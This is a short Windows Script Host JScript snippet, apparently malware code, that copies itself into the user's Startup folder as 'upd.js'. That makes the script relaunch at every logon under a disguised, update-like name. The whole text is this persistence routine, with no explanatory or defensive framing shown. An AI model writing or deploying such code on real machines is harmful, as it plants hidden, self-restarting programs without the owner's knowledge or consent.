var fso = new ActiveXObject("Scripting.FileSystemObject");
var sh = new ActiveXObject("WScript.Shell");
fso.CopyFile(WScript.ScriptFullName, sh.SpecialFolders("Startup") + "\\upd.js");
